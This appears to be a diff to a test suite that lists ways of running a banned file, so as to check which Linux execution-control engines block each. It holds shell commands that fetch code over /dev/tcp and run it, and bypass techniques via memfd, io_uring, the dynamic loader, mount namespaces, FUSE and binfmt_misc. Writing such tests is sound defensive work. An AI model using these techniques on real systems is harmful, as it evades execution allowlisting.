@@ -16,9 +16,11 @@ export type Way = {
   run: string;
   /** Starts before the rule comes, says `ready`, and reads a line when the rule is in effect. */
   startsBeforeTheRule?: true;
+  /** Below this version of the kernel it is no way at all. */
+  sinceKernel?: `${number}.${number}`;
+  /** Starts something that is not banned. */
+  isHarmless?: true;
   deniedBy: readonly EngineName[];
-  /** Who sometimes denies it: it is a race, or depends on what the kernel has cached. */
-  sometimesDeniedBy?: readonly EngineName[];
 };
 
 const run = `-c ': > "$MARK"'`;
@@ -38,8 +40,8 @@ const everyOpening: readonly EngineName[] = ["fapolicyd-strict", "cordon-scripts
 
 export const ways: readonly Way[] = [
   // Control: an engine that denies everything would do well in every other row.
-  { name: "a harmless program (must run)", run: `"$GOOD" ${run}`, deniedBy: nobody },
-  { name: "a harmless script, read by `sh` (must run)", run: 'sh "$GOOD_SH"', deniedBy: nobody },
+  { name: "(a harmless program, run)", run: `"$GOOD" ${run}`, isHarmless: true, deniedBy: nobody },
+  { name: "(a harmless script, read by `sh`)", run: 'sh "$GOOD_SH"', isHarmless: true, deniedBy: nobody },
 
   // The file itself.
   { name: "run", run: `"$BAD" ${run}`, deniedBy: everyone },
@@ -115,6 +117,11 @@ export const ways: readonly Way[] = [
   { name: "copied into a memfd", run: `${starts} copied_into_memfd "$BAD"`, deniedBy: everyOpenMark },
   { name: "read by io_uring into a memfd", run: `${starts} by_io_uring "$BAD"`, deniedBy: everyOpenMark },
   {
+    name: "downloaded into a new file, `ld-linux.so ./new`",
+    run: `cat < "/dev/tcp/127.0.0.1/$BAD_PORT" > new; "$LOADER" ./new ${run}`,
+    deniedBy: everyOpening,
+  },
+  {
     name: "script, downloaded into a new file, `sh new.sh`",
     run: `cat < "/dev/tcp/127.0.0.1/$BAD_SH_PORT" > new.sh; sh new.sh`,
     deniedBy: everyOpening,
@@ -155,15 +162,20 @@ export const ways: readonly Way[] = [
   },
   {
     name: "on a tmpfs mounted later in another mount namespace, at once",
-    run: `unshare -m bash -c 'mount -t tmpfs later "$SCRATCH" && cat < "/dev/tcp/127.0.0.1/$BAD_PORT" > "$SCRATCH/new" \\
-      && chmod +x "$SCRATCH/new" && "$SCRATCH/new" -c ": > $MARK"'`,
+    run: `unshare -m bash -c 'mount -t tmpfs later "$MOUNT_POINT" && cd "$MOUNT_POINT" \\
+      && cat < "/dev/tcp/127.0.0.1/$BAD_PORT" > new && chmod +x new && ./new -c ": > $MARK"'`,
     deniedBy: nobody,
   },
   {
     name: "on a tmpfs mounted later in another mount namespace, within 5 s",
-    run: `unshare -m bash -c 'mount -t tmpfs later "$SCRATCH" && cat < "/dev/tcp/127.0.0.1/$BAD_PORT" > "$SCRATCH/new" \\
-      && chmod +x "$SCRATCH/new" && soon "$SCRATCH/new" -c ": > $MARK"'`,
+    run: `unshare -m bash -c 'mount -t tmpfs later "$MOUNT_POINT" && cd "$MOUNT_POINT" \\
+      && cat < "/dev/tcp/127.0.0.1/$BAD_PORT" > new && chmod +x new && soon ./new -c ": > $MARK"'`,
     deniedBy: ["cordon", "cordon-scripts"],
+  },
+  {
+    name: "from a file system that a process serves (FUSE)",
+    run: '"$PYTHON" "$FUSE" "$MOUNT_POINT" "$BAD_PORT"',
+    deniedBy: nobody,
   },
 
   // Begun before the rule came.
@@ -185,6 +197,8 @@ export const ways: readonly Way[] = [
       echo ":cordon:E::banned::$BAD:F" > /proc/sys/fs/binfmt_misc/register
       echo ": > \\"\\$MARK\\"" > x.banned; chmod +x x.banned; echo ready; read -r _; ./x.banned'`,
     startsBeforeTheRule: true,
+    // Until then there was one list of these for the whole machine, which a test must not touch.
+    sinceKernel: "6.7",
     deniedBy: everyFileSystemMark,
   },
   {
@@ -204,6 +218,13 @@ export const ways: readonly Way[] = [
     deniedBy: nobody,
   },
 ];
+
+/** `release`: of the kernel, as uname says it. */
+export function isPossible({ sinceKernel = "0.0" }: Way, release: string): boolean {
+  const [wantedMajor = 0, wantedMinor = 0] = sinceKernel.split(".").map(Number);
+  const [major = 0, minor = 0] = release.split(".").map(Number);
+  return major > wantedMajor || (major === wantedMajor && minor >= wantedMinor);
+}
 
 /** What bash knows in every row: `soon` repeats a start until it is denied, for 5 s; the last one counts. */
 export const prelude = `
